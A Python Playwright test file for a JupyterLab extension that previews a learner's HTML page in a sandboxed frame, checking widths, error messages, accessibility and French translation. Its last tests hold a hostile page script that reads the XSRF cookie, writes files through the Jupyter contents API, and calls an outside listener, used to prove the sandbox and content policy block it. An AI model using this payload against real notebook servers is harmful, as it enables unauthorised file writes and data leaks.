"""The preview of her page beside the notebook, in a real browser on a real fellow's server."""

import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, FrameLocator, Locator, Page, Request, Route, expect

from passerelle_lab.unit_folder import place
from tests.browser.fellow_lab import (
    AXE,
    WAIT_MS,
    button,
    cell,
    choose,
    close_kernels,
    hers,
    leave,
    open_unit,
    picture,
    write,
)
from tests.fellow_server import Exchange

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("patience")]

UNIT = "web-dev/w1-first-page"
NOTEBOOK = f"{UNIT}/w1-first-page.ipynb"
PAGE = """%%writefile index.html
<!doctype html>
<html lang="en">
<head>
  <title>Nour, baker</title>
  <link rel="stylesheet" href="style.css">
</head>
<body>
  <h1>Nour, baker</h1>
  <p id="width">A page of mine.</p>
  <img src="pictures/bread.svg" alt="A round loaf">
  <a href="#end">To the end</a>
  <p id="end">The end.</p>
</body>
</html>"""
STYLE = (
    "%%writefile style.css\nh1 { color: rgb(10, 20, 30); }\n@media (max-width: 400px) { h1 { color: rgb(1, 2, 3); } }"
)
HELLO = "%%writefile hello.html\n<h1>Hello</h1>"
BREAD = b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><circle cx="20" cy="15" r="12"/></svg>'


def web_release() -> dict[str, bytes]:
    """Return a unit whose answer is a page."""
    metadata = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "passerelle": {
            "unit": "w1-first-page",
            "track": "web-dev",
            "version": "1",
            "language": "en",
            "title": {"en": "W1 First page", "fr": "W1 Première page"},
            "pages": ["index.html"],
        },
    }
    cells = [
        nbformat.v4.new_markdown_cell("# First page", id="intro"),
        *(
            nbformat.v4.new_code_cell(
                source,
                id=key,
                metadata={
                    "passerelle": {"key": key, "kind": "answer", "task": key},
                    "nbgrader": {"grade_id": key, "schema_version": 3, "task": False}
                    | {"locked": False, "grade": False, "solution": True},
                },
            )
            for key, source in (("page", PAGE), ("style", STYLE), ("hello", HELLO))
        ),
    ]
    notebook = nbformat.v4.new_notebook(cells=cells, metadata=metadata)
    return {"w1-first-page.ipynb": nbformat.writes(notebook).encode(), "pictures/bread.svg": BREAD, "unit.json": b"{}"}


@pytest.fixture
def context(browser: Browser, server: tuple[str, Path], exchange: Exchange) -> Iterator[BrowserContext]:
    address, home = server
    shutil.rmtree(home / UNIT, ignore_errors=True)
    place(home, "web-dev", "w1-first-page", web_release(), "en")
    exchange.language = "en"
    opened = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-GB")
    opened.set_default_timeout(WAIT_MS)
    opened.request.put(f"{address}passerelle/language", data={"language": "en"}, headers=hers())
    yield opened
    leave(opened)


@pytest.fixture
def lab(context: BrowserContext, server: tuple[str, Path]) -> Iterator[Page]:
    page = context.new_page()
    open_unit(page, server[0], NOTEBOOK)
    yield page
    close_kernels(page, server[0])


def panel(page: Page) -> Locator:
    return page.locator(".passerelle-preview")


def hers_shown(page: Page) -> FrameLocator:
    return panel(page).frame_locator("iframe").frame_locator("iframe:last-of-type")


def messages(page: Page) -> Locator:
    return panel(page).get_by_role("listitem")


def body(text: str) -> str:
    return f"%%writefile index.html\n<!doctype html>\n<html lang=en>\n<title>Mine</title>\n{text}"


def violations(page: Page) -> list[str]:
    found: list[dict[str, Any]] = Axe().run(page, ".passerelle-preview", AXE).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html']} {one['nodes'][0]['failureSummary']}" for one in found]


def test_her_page_is_shown_as_she_types_with_her_files_at_three_widths(lab: Page) -> None:
    button(lab, "Preview").focus()
    lab.keyboard.press("Enter")
    heading = hers_shown(lab).get_by_role("heading", name="Nour, baker")
    expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    expect(hers_shown(lab).get_by_role("img", name="A round loaf")).to_have_js_property("naturalWidth", 40)
    expect(panel(lab)).to_contain_text("This is what you typed")
    expect(panel(lab).get_by_role("status")).to_have_text("Your page reports nothing.")
    expect(panel(lab).get_by_role("button", name="Phone 320")).to_be_focused()
    assert heading.evaluate("innerWidth") == 320
    lab.keyboard.press("Tab")
    lab.keyboard.press("Tab")
    lab.keyboard.press("Enter")

    expect(heading).to_have_css("color", "rgb(10, 20, 30)")
    assert heading.evaluate("innerWidth") == 1280
    picture(lab, "preview-1280-en")
    panel(lab).get_by_role("button", name="Tablet 768").click()
    frame = panel(lab).locator("iframe")
    expect(frame).to_have_css("width", "768px")
    box, room = frame.bounding_box(), panel(lab).bounding_box()
    assert box is not None
    assert room is not None
    assert box["x"] >= room["x"]
    assert box["x"] + box["width"] <= room["x"] + room["width"] + 1
    write(lab, "%%writefile index.html", PAGE.replace("Nour, baker", "Samira, baker"))
    expect(hers_shown(lab).get_by_role("heading", name="Samira, baker")).to_be_visible()
    cell(lab, "%%writefile index.html").locator(".cm-content").click()
    lab.keyboard.press("Control+Enter")
    expect(panel(lab)).to_contain_text("Run the cell of style.css")
    cell(lab, "%%writefile style.css").locator(".cm-content").click()
    lab.keyboard.press("Control+Enter")
    expect(panel(lab)).not_to_contain_text("This is what you typed")
    hers_shown(lab).get_by_role("link", name="To the end").press("Enter")
    expect(hers_shown(lab).get_by_text("The end.")).to_be_in_viewport()
    expect(messages(lab)).to_have_count(0)
    assert violations(lab) == []
    # Her server is gone, as while it sleeps: what she types is shown all the same, and what was there stays.
    lab.route("**/api/contents/**", lambda route: route.abort())
    write(lab, "%%writefile index.html", PAGE.replace("Nour, baker", "Awa, baker"))
    expect(hers_shown(lab).get_by_role("heading", name="Awa, baker")).to_be_visible()
    expect(hers_shown(lab).get_by_role("img", name="A round loaf")).to_have_js_property("naturalWidth", 40)
    lab.unroute_all()
    cell(lab, "%%writefile hello.html").locator(".cm-content").click()
    expect(hers_shown(lab).get_by_role("heading", name="Hello")).to_be_visible()
    expect(panel(lab).get_by_role("combobox", name="Page")).to_have_value("hello.html")
    panel(lab).get_by_role("button", name="Close the preview").press("Enter")
    expect(panel(lab)).to_be_hidden()
    expect(button(lab, "Preview")).to_be_focused()


TROUBLE = body(
    """<p>Here.</p>
<img src="bred.png" alt="Bread"><img src="https://pictures.example/bread.png" alt="Bread">
<script>
  let myName = "Nour";
  const greeting = "I am " + myname;
</script>
<script>document.querySelector("#absent").textContent = "x";</script>
<script>if (</script>
<script src="own.js"></script>
<script>console.log("<b>said</b>", 3);</script>"""
)


def test_what_goes_on_in_her_page_is_explained_in_her_language(lab: Page, server: tuple[str, Path]) -> None:
    (server[1] / UNIT / "own.js").write_text("\n\nconst three = 3;\nthree();\n", encoding="utf-8")
    button(lab, "Preview").click()
    write(lab, "%%writefile index.html", TROUBLE)
    texts = [
        "There is no file “bred.png” beside your page",
        "“https://pictures.example/bread.png” is on the internet",
        "Line 8 of index.html: your script uses the name “myname”",
        "Line 10 of index.html: your script looked for something in the page and did not find it",
        "Line 11 of index.html: the browser cannot read your script",
        "Line 4 of own.js: “three” is called like a function",
        "Your script says: <b>said</b> 3",
    ]
    for text in texts:
        expect(messages(lab).filter(has_text=text)).to_have_count(1)

    expect(messages(lab)).to_have_count(len(texts))
    expect(panel(lab).get_by_role("status")).to_have_text("Messages from your page: 7")
    first = messages(lab).filter(has_text="“myname”")
    first.get_by_text("In the browser’s words").click()
    expect(first.locator("pre")).to_have_text("Uncaught ReferenceError: myname is not defined")
    assert violations(lab) == []
    picture(lab, "preview-messages-en")
    choose(lab, "fr")
    expect(messages(lab).filter(has_text="Ligne 8 de index.html")).to_contain_text("«\u00a0myname\u00a0»")
    expect(button(lab, "Aperçu")).to_be_visible()
    picture(lab, "preview-messages-fr")
    assert violations(lab) == []


def test_on_a_phone_the_page_stands_below_the_notebook(lab: Page) -> None:
    lab.set_viewport_size({"width": 320, "height": 800})
    button(lab, "Preview").click()
    expect(hers_shown(lab).get_by_role("heading", name="Nour, baker")).to_be_visible()

    room, notebook = panel(lab).bounding_box(), lab.locator(".jp-Notebook").bounding_box()
    assert room is not None
    assert notebook is not None
    assert room["y"] >= notebook["y"] + notebook["height"] - 1
    controls = [one.bounding_box() for one in panel(lab).locator("button:visible").all()]
    small = [box for box in controls if box is None or min(box["width"], box["height"]) < 44]
    out = [box for box in controls if box is None or box["x"] < 0 or box["x"] + box["width"] > 320]
    assert (small, out) == ([], [])
    assert panel(lab).get_by_role("button", name="Phone 320").get_attribute("aria-pressed") == "true"
    picture(lab, "preview-320-en")
    choose(lab, "fr")
    expect(panel(lab).get_by_role("group", name="Largeur")).to_be_visible()
    picture(lab, "preview-320-fr")
    assert violations(lab) == []
    button(lab, "Aperçu").click()
    expect(panel(lab)).to_be_hidden()


def test_a_page_that_loops_is_stopped_and_the_notebook_stays_hers(lab: Page) -> None:
    button(lab, "Preview").click()
    write(lab, "%%writefile index.html", body("<p>Round.</p><script>while (true) {}</script>"))

    expect(messages(lab)).to_contain_text("Look for a loop that does not end")
    expect(panel(lab).locator("iframe")).to_have_count(0)
    write(lab, "%%writefile index.html", body("<p>Round no more.</p>"))
    expect(hers_shown(lab).get_by_text("Round no more.")).to_be_visible()
    expect(messages(lab)).to_have_count(0)


HOSTILE = """<p>Free recipes!</p>
<link rel="stylesheet" href="{away}style"><link rel="prefetch" href="{away}prefetch">
<img src="{away}image" alt=""><img src="{lab}static/favicons/favicon.ico?hostile" alt="">
<form id="post" method="post" action="{away}form"><input name="a" value="b"></form>
<script src="{away}script"></script>
<script>
const tried = async (name, work) => {{
  try {{ await work(); console.log(`got in: ${{name}}`); }} catch {{ console.log(`kept out: ${{name}}`); }}
}};
const write = async (window) => {{
  const token = /_xsrf=([^;]*)/.exec(window.document.cookie)?.[1] ?? "";
  const file = {{ type: "file", format: "text", content: "not hers" }};
  const request = {{ method: "PUT", headers: {{ "X-XSRFToken": token }}, credentials: "include", body: JSON.stringify(file) }};
  const answer = await window.fetch("{lab}api/contents/taken.txt", request);
  if (!answer.ok) throw new Error(answer.status);
}};
(async () => {{
  await tried("lab", () => top.document.title.length);
  await tried("parent", () => parent.document.title.length);
  await tried("cookie", () => document.cookie.length);
  await tried("storage", () => localStorage.length);
  await tried("api", () => write(top));
  await tried("own api", () => write(window));
  await tried("fetch", () => fetch("{away}fetch", {{ mode: "no-cors" }}));
  await tried("module", () => import("{away}module"));
  await tried("window", () => window.open("{away}window").closed);
  await tried("top", () => {{ top.location.href = "{away}top"; }});
  navigator.sendBeacon("{away}beacon");
  new WebSocket("{away}socket".replace("http", "ws"));
  new EventSource("{away}events");
  document.body.append(Object.assign(document.createElement("iframe"), {{ src: "{away}frame" }}));
  document.getElementById("post").submit();
  document.body.append(Object.assign(document.createElement("iframe"), {{ srcdoc: "<script>parent.parent.parent.document.title<" + "/script>" }}));
  console.log("tried: all");
  setTimeout(() => {{ location.href = "{away}itself"; }}, 500);
}})();
</script>"""
NO_SANDBOX = {
    'sandbox: SANDBOX, referrerpolicy: "no-referrer", src: dataUrl("text/html", outerPage())': "srcdoc: outerPage()",
    'shown.setAttribute("sandbox", sandbox);': "",
}
NO_POLICY = {'].join("; ");': '].slice(0, 0).join("; ");'}


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """Listen on a free port; yield its address and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def handle_any(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST = do_HEAD = handle_any  # noqa: N815  # the names http.server asks for

        def log_message(self, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def attacked(context: BrowserContext, address: str, without: dict[str, str]) -> tuple[set[str], list[str], list[str]]:
    """Show a hostile page, with some walls taken away; return where it got in, and what was asked of others and of Lab."""

    def without_walls(route: Route) -> None:
        answer = route.fetch()
        text = answer.text()
        for wall, gap in without.items():
            text = text.replace(wall, gap)
        route.fulfill(response=answer, body=text)

    context.route("**/passerelle-lab/static/preview*.js*", without_walls)
    page = context.new_page()
    sent: list[str] = []

    def note(request: Request) -> None:
        if request.url.endswith("?hostile"):
            sent.append(request.url)

    with listener() as (away, asked):
        open_unit(page, address, NOTEBOOK)
        context.on("requestfinished", note)
        button(page, "Preview").click()
        write(page, "%%writefile index.html", body(HOSTILE.format(away=away, lab=address)))
        expect(messages(page).filter(has_text="tried: all")).to_have_count(1)
        told = messages(page).all_inner_texts()
        # It turns itself into a page of the network half a second later.
        page.wait_for_timeout(1500)
        close_kernels(page, address)
        got_in = {text.split("got in: ")[1] for text in told if "got in: " in text}
        return got_in, list(asked), sent


def test_a_hostile_page_gets_nothing_of_hers_and_reaches_nobody(
    context: BrowserContext, server: tuple[str, Path]
) -> None:
    got_in, asked, sent = attacked(context, server[0], {})

    assert got_in == set()
    assert (asked, sent) == ([], [])
    assert not (server[1] / "taken.txt").exists()


def test_without_the_sandbox_it_would_act_with_her_rights(context: BrowserContext, server: tuple[str, Path]) -> None:
    got_in, _, _ = attacked(context, server[0], NO_SANDBOX)

    assert {"lab", "cookie", "api"} <= got_in
    (server[1] / "taken.txt").unlink()


def test_without_the_policy_it_would_call_others(context: BrowserContext, server: tuple[str, Path]) -> None:
    got_in, asked, sent = attacked(context, server[0], NO_POLICY)

    assert {"/image", "/script", "/fetch"} <= set(asked)
    assert sent != []
    assert not {"lab", "cookie", "api"} & got_in
